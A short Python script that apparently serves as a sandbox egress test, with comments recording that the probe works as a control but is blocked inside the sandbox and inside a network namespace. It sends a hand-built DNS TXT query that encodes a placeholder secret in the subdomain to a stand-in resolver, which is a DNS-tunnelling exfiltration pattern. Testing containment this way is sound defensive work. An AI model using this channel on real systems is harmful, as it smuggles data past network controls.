# line: DNS: TXT/NULL/subdomain-encoded query
# control: works
# inside: EACCES
# inside netns: ENETUNREACH
# seen: dns made-up-secret.allowed.example
import socket

question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x0emade-up-secret\7allowed\7example\0\0\x10\0\1"  # TXT
made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
made.settimeout(5)
made.sendto(question, ("203.0.113.53", 53))
made.recv(512)
